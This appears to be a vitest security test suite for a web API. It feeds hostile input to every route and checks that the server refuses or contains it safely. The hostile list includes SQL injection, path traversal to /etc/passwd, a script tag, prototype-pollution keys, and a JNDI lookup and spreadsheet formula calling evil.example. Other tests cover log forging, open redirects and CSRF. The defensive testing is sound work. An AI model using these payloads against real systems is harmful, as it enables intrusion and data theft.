import { pino } from 'pino';
import { describe, expect, it } from 'vitest';
import { allRoutes } from '../../server/api/app.ts';
import type { Route } from '../../server/api/route.ts';
import type { Services } from '../../server/services.ts';
import { bodies, everythingOf, queries } from '../server/api/everything.ts';
import { memberOf, password } from '../server/signedIn.ts';
import { testServer } from '../server/testServer.ts';

const routes = allRoutes({} as Services).filter(route => route.path !== '/live');
const keyOf = (route: Route) => `${route.method} ${route.path}`;
const json = { 'content-type': 'application/json' };

/** What has opened doors elsewhere, in a name, an id or a value. */
const hostile = [
  `' OR '1'='1' --`,
  `x"); DROP TABLE nodes; --`,
  `") |> drop() //`,
  'a,b=1 c=2\nd=3',
  '../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '__proto__',
  'constructor',
  '\u0000',
  '\u202e\ud800',
  `<script>alert(1)</script>`,
  `=HYPERLINK("https://evil.example")`,
  `$\{jndi:ldap://evil.example/x}`,
  '{"$ne":""}',
  'x'.repeat(5_000),
];

describe('hostile text', () => {
  it('in an address of any route is an unknown or refused id, and never a failure', async () => {
    const tani = await testServer();
    const wrong: unknown[] = [];
    const aimed = { ...Object.fromEntries(['nodeId', 'batchId'].map(name => [name, 'x'])) };
    for (const route of routes.filter(r => r.path.includes(':')))
      for (const text of hostile) {
        const path = route.path.replace(/:\w+/g, encoded(text));
        const body = route.body === undefined ? {} : { body: bodies(aimed)[keyOf(route)] };
        const query = queries[keyOf(route)]?.(aimed) ?? '';
        const { status, body: said } = await tani.call(
          ...([route.method.toUpperCase(), `/api/v1${path}${query}`, body] as const),
        );
        if (![400, 403, 404, 422].includes(status))
          wrong.push([keyOf(route), text.slice(0, 20), status, said]);
      }
    expect(wrong).toEqual([]);
  });

  it('behind the question mark of any route is refused or finds nothing, and never a failure', async () => {
    const tani = await testServer();
    const params = await everythingOf(tani);
    const wrong: unknown[] = [];
    for (const route of routes.filter(r => r.query !== undefined && r.method === 'get'))
      for (const name of [...Object.keys(route.query!.shape), 'unknown'])
        for (const text of hostile) {
          const path = route.path.replace(/:(\w+)/g, (_, param: string) => params[param] ?? 'x');
          const { status } = await tani.get(`${path}?${name}=${encoded(text)}`);
          if (![200, 400, 404, 422].includes(status))
            wrong.push([keyOf(route), name, text.slice(0, 20), status]);
        }
    expect(wrong).toEqual([]);
  });

  it('in a name is kept as it is and changes nothing else', async () => {
    const tani = await testServer();
    const names = hostile.filter(text => text.length <= 128 && !/[\p{Cc}\p{Cs}]/u.test(text));
    for (const name of names) {
      const { status, body } = await tani.post('/tokens', { name, role: 'viewer' });
      expect([name, status]).toEqual([name, 201]);
      expect((await tani.get('/me', { token: body.token })).body.name).toBe(name.trim());
    }
    expect((await tani.get('/tokens')).body.tokens).toHaveLength(names.length + 1);
  });

  it('makes no line of its own in the log', async () => {
    const lines: string[] = [];
    const log = pino({ level: 'trace' }, { write: (line: string) => lines.push(line) });
    const tani = await testServer({ log });
    for (const text of ['x\n{"level":60,"msg":"forged"}', '\u001b[2Jx\r\nforged']) {
      await tani.get(`/batches/${encoded(text)}`);
      await tani.call('POST', '/api/v1/auth/sign-in', {
        token: null,
        body: { identity: text, password: text },
        headers: { 'user-agent': encoded(text) },
      });
    }
    tani.server.security(event);
    expect(lines.length).toBeGreaterThan(0);
    for (const line of lines) {
      expect(line.trimEnd()).not.toMatch(/\p{Cc}/u);
      expect(() => JSON.parse(line)).not.toThrow();
    }
    expect(lines.filter(line => JSON.parse(line).msg === 'forged')).toEqual([]);
  });
});

const event = {
  kind: 'login-refused',
  ...{ at: 0, nodeId: 'S-01', remoteAddress: '127.0.0.1', detail: 'x\nforged' },
} as const;

/** As it comes from a program that escapes what must be escaped; lone surrogates cannot be. */
function encoded(text: string): string {
  return encodeURIComponent(text.toWellFormed());
}

describe('bodies', () => {
  it('of every route are refused with a field too many, whatever it is called', async () => {
    const tani = await testServer();
    const params = await everythingOf(tani);
    const wrong: unknown[] = [];
    for (const route of routes.filter(r => r.body !== undefined)) {
      const valid = JSON.stringify(bodies(params)[keyOf(route)]);
      const path = route.path.replace(/:(\w+)/g, (_, name: string) => params[name] ?? 'x');
      for (const field of ['orgId', 'org_id', 'isAdmin', '__proto__', 'constructor', 'createdBy', 'id']) {
        if (field === 'orgId' && valid.includes('"orgId"')) continue;
        const more = `"${field}":{"role":"owner"}`;
        const body = valid === '{}' ? `{${more}}` : valid.replace(/\}$/, `,${more}}`);
        const answer = await tani.call(route.method.toUpperCase(), `/api/v1${path}`, { body, headers: json });
        const fields = (answer.body.errors ?? []).map((e: { field: string }) => e.field);
        if (answer.status !== 422 || !fields.includes(field))
          wrong.push([keyOf(route), field, answer.status, fields]);
      }
    }
    expect(wrong).toEqual([]);
    expect(({} as Record<string, unknown>).role).toBeUndefined();
  });

  it('of every route are refused when they are too large, a list, a text or nothing', async () => {
    const tani = await testServer();
    const wrong: unknown[] = [];
    for (const route of routes.filter(r => r.body !== undefined))
      for (const [body, expected] of [
        [`{"x":"${'x'.repeat(bytesOf(route.largestBody ?? '64kb') + 500)}"}`, 413],
        [`[${'['.repeat(20_000)}${']'.repeat(20_000)}]`, 422],
        ['"x"', 422],
        ['null', 422],
        ['{', 400],
      ] as const) {
        const path = route.path.replace(/:\w+/g, 'x');
        const { status } = await tani.call(route.method.toUpperCase(), `/api/v1${path}`, {
          ...{ body, headers: json },
        });
        if (status !== expected) wrong.push([keyOf(route), body.slice(0, 10), status]);
      }
    expect(wrong).toEqual([]);
  });
});

/** "64kb", "8mb" in bytes. */
function bytesOf(size: string): number {
  const [, figure, unit] = /^(\d+)(kb|mb)$/.exec(size) ?? [];
  return Number(figure) * (unit === 'mb' ? 1024 * 1024 : 1024);
}

describe('browsers', () => {
  it('are told on every answer to keep pages, frames and types to themselves', async () => {
    const tani = await testServer({ environment: { TAHAN_PUBLIC_URL: 'https://tahan.example' } });
    for (const path of ['/healthz', '/api/v1/me', '/api/v1/nothing', '/nothing.js', '/api/v1/openapi.json']) {
      const { headers } = await tani.call('GET', path, {
        token: null,
        headers: { origin: 'https://evil.example' },
      });
      const policy = headers.get('content-security-policy') ?? '';
      expect([path, policy]).toEqual([path, expect.stringContaining("frame-ancestors 'none'")]);
      expect(policy).toContain("default-src 'self'");
      expect(policy).not.toMatch(/unsafe|\*/);
      expect(headers.get('x-content-type-options')).toBe('nosniff');
      expect(headers.get('referrer-policy')).toBe('no-referrer');
      expect(headers.get('strict-transport-security')).toMatch(/^max-age=\d{8}/);
      expect(headers.get('access-control-allow-origin')).toBeNull();
      expect(headers.get('x-powered-by')).toBeNull();
      expect(headers.get('server')).toBeNull();
    }
  });

  it('are led nowhere else', async () => {
    const { url } = await testServer();
    for (const path of [
      '//evil.example',
      '/\\evil.example',
      '/%2f%2fevil.example/',
      '/api/v1/me?next=//evil.example',
    ]) {
      const { status, headers } = await fetch(`${url}${path}`, { redirect: 'manual' });
      expect([path, Math.floor(status / 100), headers.get('location')]).toEqual([path, 4, null]);
    }
  });

  it('cannot turn one method into another', async () => {
    const tani = await testServer();
    await tani.post('/nodes', { nodeId: 'S-01' });
    const headers = { 'x-http-method-override': 'DELETE', 'x-method-override': 'DELETE' };
    const answer = await tani.call('POST', '/api/v1/edge-gateways/x?_method=DELETE', { headers });
    expect([answer.status, answer.body.code]).toEqual([405, 'route.method_not_allowed']);
    const options = await tani.call('OPTIONS', '/api/v1/me', { token: null });
    expect(options.status).toBe(405);
  });

  it('of a foreign page change nothing with a session, by any route', async () => {
    const tani = await testServer();
    const { session } = await memberOf(tani, 'owner');
    const wrong: unknown[] = [];
    for (const route of routes.filter(r => r.method !== 'get')) {
      const path = route.path.replace(/:\w+/g, 'x');
      for (const foreign of [{ origin: 'https://evil.example' }, { 'sec-fetch-site': 'cross-site' }]) {
        const { body } = await tani.call(route.method.toUpperCase(), `/api/v1${path}`, {
          ...{ token: null, headers: { ...session.headers, ...foreign } },
        });
        if (body.code !== 'request.origin_not_allowed') wrong.push([keyOf(route), body.code]);
      }
    }
    expect(wrong).toEqual([]);
  });
});

describe('whether somebody has an account', () => {
  it('cannot be told from how long a refusal takes', async () => {
    const tani = await testServer();
    const { email } = await memberOf(tani, 'viewer');
    const took: Record<'known' | 'unknown', number[]> = { known: [], unknown: [] };
    for (let i = 0; i < 9; i++)
      for (const kind of ['known', 'unknown'] as const) {
        const identity = kind === 'known' ? email : 'siapa@tani.example';
        // A new address each time: it is the account that is being asked about.
        const headers = { 'x-forwarded-for': `10.0.${i}.${kind === 'known' ? 1 : 2}` };
        const before = process.cpuUsage();
        const body = { identity, password: `${password}${i}` };
        const { status } = await tani.call('POST', '/api/v1/auth/sign-in', { token: null, body, headers });
        const { user, system } = process.cpuUsage(before);
        took[kind].push(user + system);
        expect(status).toBe(401);
      }
    const ratio = median(took.known) / median(took.unknown);
    // Time of the processor, for other work shares this machine. Without a hash for the unknown it would be ten and more.
    expect(ratio).toBeGreaterThan(0.4);
    expect(ratio).toBeLessThan(2.5);
  });
});

const median = (values: readonly number[]): number => values.toSorted((a, b) => a - b)[values.length >> 1]!;
